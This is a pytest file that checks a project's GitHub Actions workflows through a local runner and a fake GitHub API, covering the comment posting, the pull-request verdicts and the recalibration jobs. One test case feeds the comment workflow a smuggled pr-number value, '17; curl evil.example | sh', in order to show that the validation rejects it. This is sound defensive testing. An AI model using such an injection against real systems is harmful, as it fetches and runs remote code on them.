"""The workflows' jobs run here as GitHub runs them (tests/shells/workflow_runner.py): the pull-request
check with its merged verdict, the comment workflow's checks of the artifact it is handed, the
docs' comment example (docs/ci.md), and the recalibration's drift step, each against a real git repository
with a pull-request-like history; the GitHub API is a local HTTP server speaking its REST protocol."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from perfguard.shells.action import os_release
from tests.conftest import REPO
from tests.projects import commit_all, config_text, init_repo, pr_event
from tests.shells.workflow_runner import STAND_INS, Runner, condition, evaluate, in_workspace, venv_of_this_interpreter

WORKFLOWS = REPO / ".github" / "workflows"
HEAD_SHA = "c0ffee" + "0" * 34


# -- the harness itself, on GitHub's documented semantics --------------------------------------------


def test_expressions_as_documented():
    context = {
        "inputs": {"drift-variants": ""},
        "steps": {"gem5-x86": {"outputs": {"cache-hit": "true"}}},
        "github": {"event": {"workflow_run": {"conclusion": "failure", "event": "pull_request"}}},
    }
    assert evaluate("${{ inputs.drift-variants || '10' }}", context) == "10"  # an empty input falls back
    assert evaluate("${{ steps.gem5-x86.outputs.cache-hit != 'true' }}", context) is False
    assert evaluate("${{ 'Pull_Request' == github.event.workflow_run.event }}", context) is True  # ignores case
    assert (
        evaluate('${{ contains(fromJSON(\'["success", "failure"]\'), github.event.workflow_run.conclusion) }}', context)
        is True
    )
    assert evaluate("a-${{ format('{0}-{1}', 'x', 1) }}", context) == "a-x-1"
    failed = {"failed": True, "cancelled": False}
    assert condition("steps.gem5-x86.outputs.cache-hit == 'true'", context, failed) is False  # success() && ...
    assert condition("always() && steps.gem5-x86.outputs.cache-hit == 'true'", context, failed) is True
    assert condition("${{ !cancelled() }}", context, failed) is True


def _tiny_workflow(tmp_path: Path, shell: str | None) -> Path:
    document = {
        "on": "push",
        "jobs": {
            "j": {
                "runs-on": "ubuntu-24.04",
                "steps": [
                    {"id": "pipe", "run": "false | tee piped.txt\necho past-the-pipe"},
                    {
                        "id": "files",
                        "if": "always()",
                        "run": 'echo "word=hello" >> "$GITHUB_OUTPUT"\n'
                        'printf "LATER<<EOF\\nmulti\\nline\\nEOF\\n" >> "$GITHUB_ENV"\n'
                        'echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"\n'
                        'echo "## summary" >> "$GITHUB_STEP_SUMMARY"',
                    },
                    {
                        "id": "after",
                        "if": "always()",
                        "env": {"WORD": "${{ steps.files.outputs.word }}"},
                        "run": 'echo "$WORD|$LATER|${PATH%%:*}" > seen.txt',
                    },
                ],
            }
        },
    }
    if shell:
        document["defaults"] = {"run": {"shell": shell}}
    path = tmp_path / f"tiny-{shell}.yml"
    path.write_text(yaml.safe_dump(document))
    return path


@pytest.mark.parametrize("shell, pipe_fails", [("bash", True), (None, False)])
def test_run_steps_get_the_documented_shell_and_files(tmp_path, shell, pipe_fails):
    """`shell: bash` is bash -eo pipefail: a failing command before a pipe fails the step; without a
    shell (bash -e) the pipe's last command decides, and the failure goes unnoticed."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    runner = Runner(workspace, tmp_path / "runner", event_name="push", event={})
    result = runner.run_job(_tiny_workflow(tmp_path, shell), "j")
    assert (result.step(result.steps[0].name).outcome == "failure") is pipe_fails, result.log
    assert ("past-the-pipe" in result.steps[0].log) is not pipe_fails
    assert result.steps[1].outputs == {"word": "hello"}
    seen = (workspace / "seen.txt").read_text().strip()
    assert seen == f"hello|multi\nline|{result.runner_temp}/bin"
    assert result.summary == "## summary\n"


# -- the comment workflow ---------------------------------------------------------------------------


class FakeGitHub(BaseHTTPRequestHandler):
    """GET /repos/{owner}/{repo}/pulls/{number} of GitHub's REST API, from a table of pull requests."""

    pulls: dict[int, str] = {}
    seen: list[tuple[str, str]] = []
    status = 200

    def do_GET(self):  # noqa: N802 (http.server's name)
        self.seen.append((self.path, self.headers.get("Authorization", "")))
        found = re.fullmatch(r"/repos/octo/kernels/pulls/(\d+)", self.path)
        if self.status != 200 or not found or int(found.group(1)) not in self.pulls:
            code = self.status if self.status != 200 else 404
            body = json.dumps({"message": "Not Found" if code == 404 else "Server Error"}).encode()
        else:
            code = 200
            body = json.dumps(
                {
                    "number": int(found.group(1)),
                    "state": "open",
                    "head": {"sha": self.pulls[int(found.group(1))], "ref": "faster-gemm"},
                }
            ).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def github_api():
    FakeGitHub.pulls, FakeGitHub.seen, FakeGitHub.status = {17: HEAD_SHA}, [], 200
    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeGitHub)
    # polled every 20 ms instead of serve_forever's 0.5 s: shutdown() waits for the next poll
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", FakeGitHub
    server.shutdown()
    server.server_close()


def workflow_run_event(conclusion: str = "failure") -> dict:
    return {
        "action": "completed",
        "workflow_run": {
            "id": 9001,
            "event": "pull_request",
            "conclusion": conclusion,
            "head_sha": HEAD_SHA,
            "head_branch": "faster-gemm",
            "head_repository": {"full_name": "fork/kernels"},
        },
    }


posted: list[dict] = []


def _sticky_comment(runner, with_, env):
    """marocchino/sticky-pull-request-comment posts the file's text on the numbered pull request."""
    body = in_workspace(env, with_["path"]).read_text()
    posted.append({"number": with_["number"], "header": with_.get("header"), "body": body})
    return True, {}, f"comment on #{with_['number']}"


@pytest.fixture
def comment_runner(tmp_path, github_api, monkeypatch):
    monkeypatch.setitem(STAND_INS, "marocchino/sticky-pull-request-comment", _sticky_comment)
    posted.clear()
    url, api = github_api
    workspace = tmp_path / "ws"
    workspace.mkdir()

    def make(artifact: dict[str, str] | None, conclusion: str = "failure") -> Runner:
        runner = Runner(
            workspace, tmp_path / "runner", event_name="workflow_run", event=workflow_run_event(conclusion), api_url=url
        )
        if artifact is not None:
            folder = runner.store / "artifacts" / "perfguard-comment"
            folder.mkdir(parents=True)
            for name, text in artifact.items():
                (folder / name).write_text(text)
        return runner

    return make, api


COMMENT = {"pr-number": "17\n", "comment.md": "<!-- perfguard -->\n### 1 regression(s) found\n"}


def test_comment_is_posted_for_the_commit_the_run_checked(comment_runner):
    make, api = comment_runner
    jobs = make(dict(COMMENT)).run_workflow(WORKFLOWS / "perfguard-comment.yml")
    assert jobs["validate"].succeeded and jobs["validate"].outputs == {"number": "17"}, jobs["validate"].log
    assert jobs["comment"].succeeded, jobs["comment"].log
    assert posted == [{"number": "17", "header": "perfguard", "body": COMMENT["comment.md"]}]
    assert api.seen == [("/repos/octo/kernels/pulls/17", "Bearer ghs_local-stand-in-token")]


@pytest.mark.parametrize(
    "artifact, conclusion, validate_ok, message",
    [
        (None, "failure", True, None),  # the run stopped before reporting: nothing to post, still green
        (
            dict(COMMENT, **{"pr-number": "17; curl evil.example | sh\n"}),
            "failure",
            False,
            "::error title=perfguard comment::the artifact's pr-number is not a pull request number",
        ),
        (dict(COMMENT, **{"pr-number": "0\n"}), "failure", False, "is not a pull request number"),
        ({"pr-number": "17\n"}, "failure", False, "::error title=perfguard comment::the artifact has no comment.md"),
        (dict(COMMENT, **{"pr-number": "18\n"}), "success", False, None),  # no such PR: the API says 404
    ],
)
def test_comment_workflow_refuses_what_it_cannot_trust(comment_runner, artifact, conclusion, validate_ok, message):
    make, api = comment_runner
    jobs = make(artifact, conclusion).run_workflow(WORKFLOWS / "perfguard-comment.yml")
    validate = jobs["validate"]
    assert validate.succeeded is validate_ok, validate.log
    assert validate.outputs == {"number": ""}
    assert jobs["comment"] is None and posted == []  # the job that may write never starts
    if message:
        assert message in validate.log


def test_a_moved_pull_request_gets_no_comment_from_an_older_run(comment_runner):
    make, api = comment_runner
    api.pulls = {17: "f" * 40}
    jobs = make(dict(COMMENT)).run_workflow(WORKFLOWS / "perfguard-comment.yml")
    assert jobs["validate"].succeeded and jobs["comment"] is None and posted == []
    assert f"pull request #17 has moved on from {HEAD_SHA}" in jobs["validate"].log


def test_an_api_failure_fails_the_check_instead_of_passing_through_the_pipe(comment_runner, tmp_path):
    """curl | jq: with pipefail (the workflow's `shell: bash`) a failed API call fails the step; the
    control without it reads jq's 'null' as a moved pull request and ends green."""
    make, api = comment_runner
    api.status = 500
    jobs = make(dict(COMMENT)).run_workflow(WORKFLOWS / "perfguard-comment.yml")
    assert not jobs["validate"].succeeded and "500" in jobs["validate"].log
    document = yaml.safe_load((WORKFLOWS / "perfguard-comment.yml").read_text())
    del document["defaults"]
    control = tmp_path / "without-pipefail.yml"
    control.write_text(yaml.safe_dump(document))
    jobs = make(None).run_workflow(control)  # the same runner store: the artifact is there
    assert jobs["validate"].succeeded and "has moved on" in jobs["validate"].log  # the defect pipefail prevents


def readme_comment_example() -> dict:
    text = (REPO / "docs" / "ci.md").read_text()
    block = next(b for b in re.findall(r"```yaml\n(.*?)```", text, re.S) if "name: perfguard comment" in b)
    document = yaml.safe_load(block)
    document["on"] = document.pop(True)
    return document


@pytest.mark.parametrize("artifact", [None, COMMENT])
def test_the_readme_comment_example_stays_green_without_an_artifact(comment_runner, tmp_path, artifact):
    make, _ = comment_runner
    path = tmp_path / "readme-comment.yml"
    path.write_text(yaml.safe_dump(readme_comment_example()))
    jobs = make(dict(artifact) if artifact else None).run_workflow(path)
    job = next(iter(jobs.values()))
    assert job.succeeded, job.log
    assert posted == ([{"number": "17", "header": "perfguard", "body": COMMENT["comment.md"]}] if artifact else [])


# -- the pull-request check, its merged verdict, and the caches of a red run -----------------------


def _no_apt(runner, env):
    """The step that points apt at the snapshot and installs git and python3 in the container: this
    machine has them (the step itself is checked by tests/shells/test_ci_rules.py)."""
    return bool(shutil.which("git") and shutil.which("python3")), {}, "git and python3 are installed here"


@pytest.fixture
def pr_repository(measured_pull_request, tmp_path):
    """A copy of the session's pull request (tests/shells/conftest.py): main holds the baselines; the
    pull request makes gemm_a slower and rewrites its baseline."""
    pr = measured_pull_request.copy(tmp_path / "ws")
    return pr.root, pr_event(17, "main", pr.base, pr.head), pr.head


@pytest.mark.slow
def test_the_pull_request_workflow_gives_one_verdict_and_keeps_its_caches(pr_repository, tmp_path):
    workspace, event, head = pr_repository
    runner = Runner(
        workspace,
        tmp_path / "runner",
        event_name="pull_request",
        event=event,
        sha=head,
        local_action=REPO,
        replaced={
            "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
            "setup": venv_of_this_interpreter("VENV"),
        },
    )
    jobs = runner.run_workflow(WORKFLOWS / "perfguard.yml", matrices={"check": {"target": "x86_64"}})
    check, merge = jobs["check"], jobs["merge"]
    assert check.succeeded, check.log  # fail-on-regression "false": the merge job gives the verdict
    assert not merge.succeeded, merge.log
    verdict = merge.step("perfguard merge")
    assert verdict.outcome == "failure" and verdict.outputs["verdict"] == "regression", verdict.log
    assert merge.step("Every target was checked").outcome == "skipped"
    # The merged report and the comment for the comment workflow, as artifacts.
    artifacts = runner.store / "artifacts"
    assert (artifacts / "perfguard-report-targets-x86_64" / "perfguard.json").is_file()
    assert (artifacts / "perfguard-comment" / "pr-number").read_text().strip() == "17"
    merged = json.loads((artifacts / "perfguard-report-merged" / "perfguard.json").read_text())
    assert {(r["kernel"], r["verdict"]) for r in merged["results"]} == {
        ("gemm_a", "regression"),
        ("gemm_b", "unchanged"),
    }
    # The trust step ran for real: git in the job's HOME trusts the workspace.
    trusted = subprocess.run(
        ["git", "config", "--global", "--get-all", "safe.directory"],
        capture_output=True,
        text=True,
        env=dict(os.environ, HOME=str(check.home)),
    ).stdout.split()
    assert str(workspace) in trusted
    # The environment's cache is saved under the runner's and the distribution's key; the
    # simulation cache's save ran too (this project keeps its cache where its config's cache_dir
    # says, so the action's folder stayed empty and the save says so, as actions/cache/save does).
    caches = {p.name for p in (runner.store / "caches").glob("*/*")}
    assert any(c.startswith(f"perfguard-setup-Linux-X64-{os_release()}-") for c in caches), caches
    inner = check.step("perfguard check").log
    assert "--- Save the build and simulation cache (also after a regression or an error) (success)" in inner


# -- the recalibration's drift step -----------------------------------------------------------------


@pytest.mark.slow
def test_the_recalibration_leg_runs_its_drift_step(project, tmp_path):
    """x86_64's leg on a repository with a stored gemm model whose dataset holds one tiny shape: the
    requirements check and the real drift step (one fresh variant, timed natively), which finds no
    drift under wide limits, so nothing is uploaded and the job is green."""
    config = project(
        config_text(["x86_64"]).replace("[perfguard]\n", "[perfguard]\ndrift_mape = 1e9\ndrift_spearman = 0.0\n", 1),
        name="cal",
    )
    workspace = config.parent
    models = workspace / "baselines" / "models" / "x86_64"
    models.mkdir(parents=True)
    zen = REPO / "benchmarks" / "profiles" / "amd-23-1"  # Zen 1's gemm model and dataset, as a project's own
    shutil.copy(zen / "models" / "x86_64" / "gemm.json", models / "gemm.json")
    dataset = json.loads((zen / "datasets" / "x86_64" / "gemm.json").read_text())
    row = dict(dataset["rows"][0], group="K=16,M=16,N=16")
    row["params"] = dict(row["params"], M=16, N=16, K=16, tile_m=4, tile_n=8, tile_k=8, vector=4)
    dataset["rows"] = [row]
    (workspace / "baselines" / "datasets" / "x86_64").mkdir(parents=True)
    (workspace / "baselines" / "datasets" / "x86_64" / "gemm.json").write_text(json.dumps(dataset))
    shutil.copytree(REPO / "scripts", workspace / "scripts")  # the workflow is this repository's own
    init_repo(workspace)
    commit_all(workspace, "models")
    runner = Runner(
        workspace,
        tmp_path / "runner",
        event_name="workflow_dispatch",
        event={},
        inputs={"drift-variants": "1", "max-cv": "50", "max-neighbour-busy": "0"},
        replaced={
            "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
            "Install toolchains and perfguard": venv_of_this_interpreter("RUNNER_TEMP", "venv"),
        },
    )
    job = runner.run_job(
        WORKFLOWS / "recalibrate.yml",
        "calibrate",
        matrix={"target": "x86_64", "runner": "ubuntu-24.04", "unvalidated": "0"},
    )
    assert job.succeeded, job.log
    assert "this machine can run the x86_64 leg" in job.step("What this leg needs from its runner").log
    drift = job.step("Drift, then collect and train what drifted")
    assert drift.outputs == {"drifted": "false", "families": ""}, drift.log
    assert "calibrate drift --target x86_64" in drift.log and "--variants 1 --max-cv 50" in drift.log
    assert "--max-neighbour-busy 0" in drift.log  # the suite's other worker keeps this machine's other CPU busy
    verdicts = json.loads((job.runner_temp / "perfguard-drift-x86_64.json").read_text())
    assert list(verdicts) == ["gemm"] and verdicts["gemm"]["rows"] == 1 and not verdicts["gemm"]["needs_retraining"]
    assert job.step("Upload the new models").outcome == "skipped"


def test_the_machine_profile_job_leaves_a_cpu_perfguard_has_a_profile_for_alone(tmp_path):
    """recalibrate.yml's machine-profile job, scheduled (no fresh-profile input): on a CPU whose
    committed profile already carries models (this machine's, intel-6-167), benchmarks/
    machine_profile.py --if-missing names the profile, writes nothing and says so in the step's
    outputs, so nothing is uploaded. (A CPU without one would collect, train and time for about
    half an hour: the whole path is in benchmarks/RESULTS.md, not in the suite.)"""
    from perfguard import machines
    from perfguard.errors import InputError
    from perfguard.job.native import this_machine

    here = this_machine()
    try:
        name = machines.profile_name(machines.CpuIdentity.parse(here.cpu_id, here.cpu))
    except InputError:
        pytest.skip(f"this CPU has no vendor/family/model identity: {here.cpu_id!r}")
    if name not in machines.names() or "x86_64" not in machines.load(name).isas:
        pytest.skip(f"this CPU ({name}) has no committed x86_64 profile: the job would calibrate it")
    if not machines.load(name).isas["x86_64"].models:
        pytest.skip(f"{name} carries no models: the job would calibrate it")
    workspace = tmp_path / "ws"
    (workspace / "benchmarks").mkdir(parents=True)
    shutil.copy(REPO / "perfguard.toml", workspace / "perfguard.toml")
    shutil.copy(REPO / "benchmarks" / "machine_profile.py", workspace / "benchmarks" / "machine_profile.py")
    init_repo(workspace)
    commit_all(workspace, "checkout")
    runner = Runner(
        workspace,
        tmp_path / "runner",
        event_name="schedule",
        event={},
        replaced={
            "Debian packages from the pinned snapshot, then what the checkout and setup.sh need": _no_apt,
            "Install toolchains and perfguard": venv_of_this_interpreter("RUNNER_TEMP", "venv"),
        },
    )
    job = runner.run_job(WORKFLOWS / "recalibrate.yml", "machine-profile")
    assert job.succeeded, job.log
    step = job.step("Collect, train, time the verdict pairs, write the profile")
    assert step.outputs == {"name": name, "written": "false"}, step.log
    assert f"-> {name}" in step.log and "already carries models for x86_64: nothing to do" in step.log
    assert job.step("Upload the profile").outcome == "skipped"


def test_a_leg_on_the_wrong_machine_stops_before_installing_anything(tmp_path):
    """scripts/check-runner.sh, the recalibration legs' first step: a riscv64 leg on this x86_64
    machine, or outside a checkout git can read, says what is missing (exit 3); a bad target is
    a usage error (exit 2)."""
    script = str(REPO / "scripts" / "check-runner.sh")
    other = "riscv64" if os.uname().machine != "riscv64" else "x86_64"
    env = dict(os.environ, GITHUB_ACTIONS="true")
    proc = subprocess.run(["bash", script, other], cwd=tmp_path, capture_output=True, text=True, env=env)
    assert proc.returncode == 3
    assert (
        f"::error title=runner for {other}::this machine is {os.uname().machine}: native timing for {other} "
        f"needs {other} hardware" in proc.stdout
    )
    assert "git cannot read the checkout" in proc.stderr  # tmp_path is no checkout
    proc = subprocess.run(["bash", script, "vax"], capture_output=True, text=True)
    assert proc.returncode == 2 and "unknown target 'vax'" in proc.stderr
